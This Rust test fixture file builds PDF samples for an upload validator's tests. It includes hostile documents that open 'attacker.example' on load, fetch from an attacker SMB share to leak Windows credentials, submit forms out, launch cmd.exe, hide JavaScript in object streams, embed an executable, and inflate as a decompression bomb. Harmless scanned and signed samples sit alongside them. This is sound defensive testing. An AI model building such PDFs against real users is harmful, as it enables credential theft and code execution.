//! PDFs made for the upload tests: what attackers send, and what residents and SIAK really send.
//! Shared by the unit tests of `commands/src/files/pdf.rs` and the end-to-end tests in
//! `tests/tests/pdf_active_content.rs` (which includes this file), so both levels check the
//! same documents. Every hostile one looks like a scanned page with something added.

use std::io::Cursor;

use anyhow::Context;
use lopdf::{
    Dictionary, Document, EncryptionState, EncryptionVersion, Object, ObjectId, Permissions, SaveOptions, Stream,
    dictionary,
};

pub type Sample = anyhow::Result<Vec<u8>>;
/// A sample's name and how to make it.
type Maker = (&'static str, fn() -> Sample);

/// A path on the attacker's SMB server: opening it sends the officer's Windows credentials.
const UNC: &str = "\\\\attacker\\share\\x.pdf";
const URL: &str = "https://attacker.example/collect";

/// A one-page document being put together: an A4 page showing one JPEG, as a scanner makes it.
struct Draft {
    doc: Document,
    catalog: ObjectId,
    page: ObjectId,
}

impl Draft {
    fn new() -> anyhow::Result<Self> {
        let mut doc = Document::with_version("1.7");
        let pages = doc.new_object_id();
        let image = doc.add_object(scan_image()?);
        let mut drawing = b"q 595 0 0 842 0 0 cm /Im0 Do Q\n".to_vec();
        drawing.extend(b"0.5 w 40 40 m 555 40 l S\n".repeat(20));
        let mut content = Stream::new(dictionary! {}, drawing);
        content.compress()?;
        anyhow::ensure!(content.dict.has(b"Filter"), "the content stream should be compressed");
        let content = doc.add_object(content);
        let page = doc.add_object(dictionary! {
            "Type" => "Page",
            "Parent" => pages,
            "MediaBox" => vec![0.into(), 0.into(), 595.into(), 842.into()],
            "Resources" => dictionary! { "XObject" => dictionary! { "Im0" => image } },
            "Contents" => content,
        });
        doc.objects.insert(pages, dictionary! { "Type" => "Pages", "Kids" => vec![page.into()], "Count" => 1 }.into());
        let catalog = doc.add_object(dictionary! { "Type" => "Catalog", "Pages" => pages });
        doc.trailer.set("Root", catalog);
        Ok(Self { doc, catalog, page })
    }

    fn dictionary(&mut self, id: ObjectId) -> anyhow::Result<&mut Dictionary> {
        Ok(self.doc.get_object_mut(id)?.as_dict_mut()?)
    }

    fn catalog(mut self, key: &str, value: impl Into<Object>) -> anyhow::Result<Self> {
        let catalog = self.catalog;
        self.dictionary(catalog)?.set(key, value);
        Ok(self)
    }

    fn page(mut self, key: &str, value: impl Into<Object>) -> anyhow::Result<Self> {
        let page = self.page;
        self.dictionary(page)?.set(key, value);
        Ok(self)
    }

    /// Adds an annotation to the page; returns its id too.
    fn annotate(mut self, mut annotation: Dictionary) -> anyhow::Result<(Self, ObjectId)> {
        annotation.set("P", self.page);
        let id = self.doc.add_object(annotation);
        let page = self.page;
        let page = self.dictionary(page)?;
        match page.get_mut(b"Annots") {
            Ok(Object::Array(annots)) => annots.push(id.into()),
            _ => page.set("Annots", vec![id.into()]),
        }
        Ok((self, id))
    }

    fn add(&mut self, object: impl Into<Object>) -> ObjectId {
        self.doc.add_object(object)
    }

    /// Saved with a classic cross-reference table, every object in the clear.
    fn save(mut self) -> Sample {
        let mut out = Vec::new();
        self.doc.save_to(&mut out)?;
        Ok(out)
    }

    /// Saved as modern writers do: objects packed into compressed object streams, with a
    /// cross-reference stream.
    fn save_compressed(mut self) -> Sample {
        let options =
            SaveOptions::builder().use_object_streams(true).use_xref_streams(true).compression_level(6).build();
        let mut out = Vec::new();
        self.doc.save_with_options(&mut out, options)?;
        Ok(out)
    }
}

/// A small grey JPEG as an image XObject, the way scanners embed pages.
fn scan_image() -> anyhow::Result<Stream> {
    let pixels = image::GrayImage::from_fn(64, 90, |x, y| image::Luma([(200 + (x + y) % 50) as u8]));
    let mut jpeg = Cursor::new(Vec::new());
    image::DynamicImage::ImageLuma8(pixels).write_to(&mut jpeg, image::ImageFormat::Jpeg)?;
    let dict = dictionary! {
        "Type" => "XObject",
        "Subtype" => "Image",
        "Width" => 64,
        "Height" => 90,
        "ColorSpace" => "DeviceGray",
        "BitsPerComponent" => 8,
        "Filter" => "DCTDecode",
    };
    Ok(Stream::new(dict, jpeg.into_inner()).with_compression(false))
}

fn file_spec(path: &str) -> Dictionary {
    dictionary! { "Type" => "Filespec", "F" => Object::string_literal(path), "UF" => Object::string_literal(path) }
}

// ---------------------------------------------------------------------------------------------
// Hostile

/// Opens a URL as soon as the document opens.
pub fn open_action_uri() -> Sample {
    Draft::new()?.catalog("OpenAction", dictionary! { "S" => "URI", "URI" => Object::string_literal(URL) })?.save()
}

/// Opens a document on the attacker's SMB share when the document opens.
pub fn go_to_remote_unc() -> Sample {
    let action = dictionary! {
        "S" => "GoToR",
        "F" => file_spec(UNC),
        "D" => vec![0.into(), "Fit".into()],
        "NewWindow" => false,
    };
    Draft::new()?.catalog("OpenAction", action)?.save()
}

/// A push button that sends the form to the attacker.
pub fn submit_form() -> Sample {
    let action = dictionary! {
        "S" => "SubmitForm",
        "F" => dictionary! { "FS" => "URL", "F" => Object::string_literal(URL) },
        "Flags" => 4,
    };
    let button = dictionary! {
        "Type" => "Annot",
        "Subtype" => "Widget",
        "FT" => "Btn",
        "Ff" => 65536,
        "T" => Object::string_literal("kirim"),
        "Rect" => vec![40.into(), 40.into(), 200.into(), 80.into()],
        "A" => action,
    };
    let (draft, field) = Draft::new()?.annotate(button)?;
    draft.catalog("AcroForm", dictionary! { "Fields" => vec![field.into()] })?.save()
}

/// Imports form data from the attacker's share when the document opens.
pub fn import_data() -> Sample {
    let action = dictionary! { "S" => "ImportData", "F" => file_spec("\\\\attacker\\share\\data.fdf") };
    Draft::new()?.catalog("OpenAction", action)?.save()
}

/// Runs a program, with the Windows launch parameters.
pub fn launch_windows() -> Sample {
    let action = dictionary! {
        "S" => "Launch",
        "Win" => dictionary! {
            "F" => Object::string_literal("cmd.exe"),
            "P" => Object::string_literal("/c calc.exe"),
            "O" => Object::string_literal("open"),
        },
    };
    Draft::new()?.catalog("OpenAction", action)?.save()
}

/// Additional actions on the page: a URL opened when the page is shown.
pub fn page_additional_actions() -> Sample {
    let on_open = dictionary! { "S" => "URI", "URI" => Object::string_literal(URL) };
    Draft::new()?.page("AA", dictionary! { "O" => on_open })?.save()
}

/// A script run on open, stored (with the catalog) inside a compressed object stream, where no
/// byte scan sees it.
pub fn javascript_in_object_stream() -> Sample {
    let mut draft = Draft::new()?;
    let script = draft.add(dictionary! { "S" => "JavaScript", "JS" => Object::string_literal("app.alert(1)") });
    draft.catalog("OpenAction", script)?.save_compressed()
}

/// A program attached through the catalog's `/EmbeddedFiles` name tree.
pub fn embedded_files() -> Sample {
    let mut draft = Draft::new()?;
    let program = draft.add(Stream::new(dictionary! { "Type" => "EmbeddedFile" }, b"MZ\x90\x00".to_vec()));
    let mut spec = file_spec("invoice.exe");
    spec.set("EF", dictionary! { "F" => program });
    let spec = draft.add(spec);
    let tree = dictionary! { "Names" => vec![Object::string_literal("invoice.exe"), spec.into()] };
    draft.catalog("Names", dictionary! { "EmbeddedFiles" => tree })?.save()
}

/// A file attachment annotation (here only naming the file: the annotation type alone is
/// refused).
pub fn file_attachment() -> Sample {
    let annotation = dictionary! {
        "Type" => "Annot",
        "Subtype" => "FileAttachment",
        "Rect" => vec![40.into(), 40.into(), 60.into(), 60.into()],
        "FS" => file_spec("lampiran.exe"),
        "Contents" => Object::string_literal("Lampiran"),
    };
    Draft::new()?.annotate(annotation)?.0.save()
}

/// An XML (XFA) form, which readers run scripts in.
pub fn xfa_form() -> Sample {
    let mut draft = Draft::new()?;
    let xdp = b"<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><template/></xdp:xdp>".to_vec();
    let xfa = draft.add(Stream::new(dictionary! {}, xdp));
    draft.catalog("AcroForm", dictionary! { "Fields" => Vec::<Object>::new(), "XFA" => xfa })?.save()
}

/// Encrypted with an empty user password (opens without asking), so lopdf decrypts it itself.
pub fn encrypted() -> Sample {
    let mut draft = Draft::new()?;
    let id = Object::string_literal(b"0123456789abcdef".to_vec());
    draft.doc.trailer.set("ID", vec![id.clone(), id]);
    let version = EncryptionVersion::V2 {
        document: &draft.doc,
        owner_password: "pemilik",
        user_password: "",
        key_length: 128,
        permissions: Permissions::all(),
    };
    let state = EncryptionState::try_from(version)?;
    draft.doc.encrypt(&state)?;
    draft.save()
}

/// Page content behind a filter no scanner uses.
pub fn unknown_filter() -> Sample {
    let mut draft = Draft::new()?;
    let content = draft.add(Stream::new(dictionary! { "Filter" => "Crypt" }, b"q Q".to_vec()).with_compression(false));
    draft.page("Contents", content)?.save()
}

/// Every hostile sample, named.
pub fn hostile() -> anyhow::Result<Vec<(&'static str, Vec<u8>)>> {
    make_all(&[
        ("/OpenAction /URI", open_action_uri),
        ("/GoToR to a UNC path", go_to_remote_unc),
        ("/SubmitForm button", submit_form),
        ("/ImportData", import_data),
        ("/Launch with /Win", launch_windows),
        ("/AA on a page", page_additional_actions),
        ("JavaScript in an object stream", javascript_in_object_stream),
        ("/EmbeddedFiles name tree", embedded_files),
        ("/FileAttachment annotation", file_attachment),
        ("/XFA form", xfa_form),
        ("encrypted", encrypted),
        ("unknown stream filter", unknown_filter),
    ])
}

// ---------------------------------------------------------------------------------------------
// Harmless

/// A scanned page: a DCT (JPEG) image and a Flate content stream.
pub fn scanned_page() -> Sample {
    Draft::new()?.save()
}

/// A scanned page whose image data happens to hold the bytes of active-content names: in
/// compressed or JPEG data any byte sequence occurs by chance (`/JS` in about 6 % of 1 MB
/// scans), and a scan of the raw bytes refused such honest files.
pub fn scanned_page_with_name_like_bytes() -> Sample {
    let mut draft = Draft::new()?;
    let dict = dictionary! {
        "Type" => "XObject", "Subtype" => "Image", "Width" => 1, "Height" => 1,
        "ColorSpace" => "DeviceGray", "BitsPerComponent" => 8, "Filter" => "DCTDecode",
    };
    let data = b"\xFF\xD8\x01/JS(x)/JavaScript/Launch /EmbeddedFile/Encrypt/XFA\x02\xFF\xD9".to_vec();
    draft.add(Stream::new(dict, data).with_compression(false));
    draft.save()
}

/// The same, with compressed object streams and a cross-reference stream.
pub fn scanned_page_compressed() -> Sample {
    Draft::new()?.save_compressed()
}

/// As SIAK signs letters: an AcroForm with a `/Sig` field that is also its widget annotation.
pub fn signed_form() -> Sample {
    let mut draft = Draft::new()?;
    let signature = draft.add(dictionary! {
        "Type" => "Sig",
        "Filter" => "Adobe.PPKLite",
        "SubFilter" => "adbe.pkcs7.detached",
        "ByteRange" => vec![0.into(), 100.into(), 200.into(), 300.into()],
        "Contents" => Object::String(vec![0; 64], lopdf::StringFormat::Hexadecimal),
        "M" => Object::string_literal("D:20260301120000+07'00'"),
        "Name" => Object::string_literal("Dinas Kependudukan dan Pencatatan Sipil"),
    });
    let appearance = draft.add(Stream::new(
        dictionary! { "Type" => "XObject", "Subtype" => "Form", "BBox" => vec![0.into(), 0.into(), 200.into(), 50.into()] },
        b"q Q".to_vec(),
    ));
    let widget = dictionary! {
        "Type" => "Annot",
        "Subtype" => "Widget",
        "FT" => "Sig",
        "T" => Object::string_literal("Signature1"),
        "V" => signature,
        "F" => 132,
        "Rect" => vec![350.into(), 40.into(), 550.into(), 90.into()],
        "AP" => dictionary! { "N" => appearance },
    };
    let (draft, field) = draft.annotate(widget)?;
    draft.catalog("AcroForm", dictionary! { "Fields" => vec![field.into()], "SigFlags" => 3 })?.save()
}

/// Links inside the document: one through a `GoTo` action, one through `/Dest`.
pub fn internal_links() -> Sample {
    let draft = Draft::new()?;
    let top = vec![draft.page.into(), "XYZ".into(), 0.into(), 842.into(), Object::Null];
    let go_to = dictionary! {
        "Type" => "Annot",
        "Subtype" => "Link",
        "Rect" => vec![40.into(), 700.into(), 200.into(), 720.into()],
        "A" => dictionary! { "S" => "GoTo", "D" => top.clone() },
    };
    let dest = dictionary! {
        "Type" => "Annot",
        "Subtype" => "Link",
        "Rect" => vec![40.into(), 660.into(), 200.into(), 680.into()],
        "Dest" => top.clone(),
    };
    let (draft, _) = draft.annotate(go_to)?;
    let (draft, _) = draft.annotate(dest)?;
    draft.catalog("OpenAction", top)?.save()
}

/// The PDF the end-to-end helpers upload everywhere: no cross-reference table, no `startxref`.
pub fn minimal() -> Vec<u8> {
    b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n".to_vec()
}

/// Every harmless sample, named.
pub fn accepted() -> anyhow::Result<Vec<(&'static str, Vec<u8>)>> {
    make_all(&[
        ("scanned page", scanned_page),
        ("scanned page with object streams", scanned_page_compressed),
        ("scanned page with name-like image bytes", scanned_page_with_name_like_bytes),
        ("signature field", signed_form),
        ("internal links", internal_links),
        ("minimal", || Ok(minimal())),
    ])
}

fn make_all(makers: &[Maker]) -> anyhow::Result<Vec<(&'static str, Vec<u8>)>> {
    makers.iter().map(|(name, make)| Ok((*name, make().with_context(|| *name)?))).collect()
}

// ---------------------------------------------------------------------------------------------
// Hand-written files and bounds

/// A file with a correct cross-reference table for `objects` (numbered from 1; the catalog is
/// object 1), followed by `unlisted` objects (numbered from 90) that the table leaves out.
pub fn with_xref(objects: &[&str], unlisted: &[&str]) -> Vec<u8> {
    let bytes = |bodies: &[&str]| bodies.iter().map(|body| body.as_bytes().to_vec()).collect::<Vec<_>>();
    with_xref_bytes(&bytes(objects), &bytes(unlisted))
}

fn with_xref_bytes(objects: &[Vec<u8>], unlisted: &[Vec<u8>]) -> Vec<u8> {
    let mut out = b"%PDF-1.4\n".to_vec();
    let mut offsets = Vec::new();
    for (number, body) in (1..).zip(objects).chain((90..).zip(unlisted)) {
        if number < 90 {
            offsets.push(out.len());
        }
        out.extend(format!("{number} 0 obj\n").into_bytes());
        out.extend(body);
        out.extend(b"\nendobj\n");
    }
    let xref = out.len();
    out.extend(format!("xref\n0 {}\n0000000000 65535 f\r\n", objects.len() + 1).into_bytes());
    for offset in offsets {
        out.extend(format!("{offset:010} 00000 n\r\n").into_bytes());
    }
    out.extend(
        format!("trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n", objects.len() + 1).into_bytes(),
    );
    out
}

/// `count` object streams, each a few KiB that inflate to `each` bytes.
pub fn object_stream_bomb(count: usize, each: usize) -> Sample {
    let mut padding = Stream::new(dictionary! {}, vec![b' '; each]);
    padding.compress()?;
    let header =
        format!("<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {} >>\nstream\n", padding.content.len());
    let bomb = [header.as_bytes(), &padding.content, b"\nendstream"].concat();
    let mut objects =
        vec![b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(), b"<< /Type /Pages /Kids [] /Count 0 >>".to_vec()];
    objects.extend(std::iter::repeat_n(bomb, count));
    Ok(with_xref_bytes(&objects, &[]))
}

/// A scanned page plus `extra` tiny objects, packed into compressed object streams.
pub fn many_objects(extra: usize) -> Sample {
    let mut draft = Draft::new()?;
    for i in 0..extra {
        draft.add(i as i64);
    }
    draft.save_compressed()
}
